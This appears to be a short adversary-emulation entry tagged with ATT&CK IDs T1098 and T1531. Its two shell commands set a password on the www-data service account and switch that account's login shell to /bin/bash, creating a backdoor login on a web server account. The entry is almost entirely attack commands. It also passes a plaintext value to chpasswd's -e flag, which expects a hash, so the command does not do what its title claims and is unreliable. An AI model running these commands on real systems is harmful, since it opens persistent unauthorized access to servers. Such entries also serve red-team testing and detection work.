# title: The password of a service's account is set, and it gets a shell
# technique: T1098 T1531
# needs: chpasswd

echo 'www-data:example1' | chpasswd -e
usermod -s /bin/bash www-data
